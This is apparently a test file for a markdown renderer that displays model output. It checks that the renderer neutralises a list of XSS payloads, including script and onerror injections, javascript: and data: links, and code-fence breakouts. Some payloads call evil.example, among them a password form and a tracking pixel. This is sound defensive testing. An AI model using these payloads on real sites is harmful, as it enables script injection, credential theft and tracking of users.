// @vitest-environment jsdom
/* What a model writes is shown, and can do nothing. */
import { describe, expect, test, vi } from 'vitest'
import { renderMarkdown } from './markdown'

const TEXTS = { copyCode: 'Copy', picture: 'Picture' }

function show(text: string, later: () => void = () => undefined): HTMLElement {
  const root = document.createElement('div')
  root.append(renderMarkdown(text, TEXTS, later))
  return root
}

const TAGS = new Set(
  'a blockquote br code del div em h1 h2 h3 h4 h5 h6 hr li ol p pre button s span strong table tbody td th thead tr ul'.split(' '),
)
const ATTRIBUTES = new Set(['href', 'class', 'start', 'data-language', 'data-picture', 'data-test', 'target', 'rel', 'title', 'type', 'tabindex'])
const OURS = /^(?:hljs-[\w-]+|outward|picture|host|code|code-head|code-language|code-copy|table)$/

/* Everything in it is of the kinds that we make, and no address is asked by itself. */
function harmless(root: HTMLElement): void {
  for (const element of root.querySelectorAll('*')) {
    expect(TAGS.has(element.localName), element.outerHTML).toBe(true)
    for (const { name, value } of element.attributes) {
      expect(ATTRIBUTES.has(name), `${name} in ${element.outerHTML}`).toBe(true)
      if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/i)
      if (name === 'class') for (const one of value.split(' ')) expect(one).toMatch(OURS)
    }
    if (element.localName === 'a') expect(element.getAttribute('rel')).toBe('noopener noreferrer nofollow')
  }
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
  '<form action=//evil.example><input name=password><button>Sign in</button></form>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<details open ontoggle=alert(1)>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '[x](//evil.example/x)',
  '[x](/me/account)',
  '[x](blob:https://x/1)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n[x]',
  '![a](https://evil.example/pixel.png)',
  '![a"onerror="alert(1)](https://evil.example/"onerror="alert(1))',
  '![a](javascript:alert(1))',
  '![a](data:image/svg+xml,<svg onload=alert(1)>)',
  '![a][p]\n\n[p]: https://evil.example/p.gif "onload=alert(1)"',
  '[![nested](https://evil.example/in.png)](javascript:alert(1))',
  '[![nested](https://evil.example/in.png)](https://evil.example/out)',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js\n</code></pre><script>alert(1)</script>\n```',
  '```html\n<script>alert(1)</script>\n```',
  '```constructor\nx\n```',
  '```__proto__\nx\n```',
  '`</code><script>alert(1)</script>`',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |',
  '[x](https://ok.example/"onmouseover="alert(1))',
  "[x](https://ok.example 'title\" onmouseover=alert(1)')",
  'https://ok.example/<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '> '.repeat(300) + '<script>alert(1)</script>',
  '*'.repeat(2_000) + '['.repeat(2_000),
  '<p class="el-message-box" id="app" name="body">x</p>',
]

describe('hostile input', () => {
  test.each(HOSTILE)('%s', (text) => {
    const root = show(text)
    harmless(root)
    expect(root.querySelector('img, script, iframe, svg, form, input, style, link')).toBeNull()
  })

  test('all of it in one', () => harmless(show(HOSTILE.join('\n\n'))))
})

test('what is said is not lost', () => {
  expect(show('<script>alert(1)</script>').textContent).toContain('<script>alert(1)</script>')
  expect(show('[x](javascript:alert(1))').textContent).toContain('javascript:alert(1)')
})

test('the usual: paragraphs, lists, tables, emphasis, line ends', () => {
  const root = show('# 标题\n\n一 **二** *三* `四` ~~五~~\n下一行\n\n1. a\n2. b\n\n- c\n\n> d\n\n| h |\n|---|\n| v |')
  for (const tag of ['h1', 'strong', 'em', 'code', 's', 'br', 'ol', 'ul', 'blockquote', 'th', 'td']) expect(root.querySelector(tag), tag).not.toBeNull()
  expect(root.querySelector('.table table')).not.toBeNull()
  expect(show('3. c\n4. d').querySelector('ol')?.getAttribute('start')).toBe('3')
  harmless(root)
})

test('a link is marked, and says where it leads unless its words do', () => {
  const [link] = show('[our bank](https://evil.example/login?x=1#y)').querySelectorAll('a')
  expect(link?.outerHTML).toBe(
    '<a href="https://evil.example/login?x=1#y" target="_blank" rel="noopener noreferrer nofollow" title="https://evil.example/login?x=1#y" class="outward">our bank<span class="host">evil.example</span></a>',
  )
  expect(show('see https://posthouse.example/a').querySelector('a')?.textContent).toBe('https://posthouse.example/a')
  expect(show('[bank.example](https://evil.example)').querySelector('.host')?.textContent).toBe('evil.example')
  expect(show('[bank.example](https://bank.example@evil.example/)').querySelector('a')?.textContent).toContain('evil.example')
  expect(show('mail <a@b.example>').querySelector('a')?.getAttribute('href')).toBe('mailto:a@b.example')
})

test('a picture is a marked link and asks nobody', () => {
  const link = show('![a cat](https://cats.example/cat.png)').querySelector('a')
  expect(link?.textContent).toBe('Picturea catcats.example')
  expect(link?.getAttribute('href')).toBe('https://cats.example/cat.png')
})

test('code has its language, a button, and colours when they have come', async () => {
  const text = '```js\nconst a = "<b>"\n```'
  const later = vi.fn()
  const also = vi.fn()
  const before = show(text, later)
  show('```js\n1\n```', also)
  expect(before.querySelector('.code-language')?.textContent).toBe('js')
  expect(before.querySelector('[data-test="copy-code"]')?.textContent).toBe('Copy')
  expect(before.querySelector('pre code')?.textContent).toBe('const a = "<b>"\n')
  await vi.waitFor(() => expect(later).toHaveBeenCalled())
  await vi.waitFor(() => expect(also).toHaveBeenCalled())
  const after = show(text)
  expect(after.querySelector('.hljs-keyword')?.textContent).toBe('const')
  expect(after.querySelector('pre code')?.textContent).toBe('const a = "<b>"\n')
  harmless(after)
})

test('code that is still being written is code already', () => {
  expect(show('```py\nprint(1)').querySelector('pre code')?.textContent).toBe('print(1)')
})

/* What takes longer than its deadline would make a page stand still; a browser takes a small part of what this DOM does. */
test('8000 characters of anything are shown', () => {
  for (const piece of ['[', '*', '`', '> ', '<', '![', '| ', '_a', '](']) {
    const root = show(piece.repeat(8_000 / piece.length))
    expect(root.childElementCount).toBeGreaterThan(0)
  }
}, 60_000)
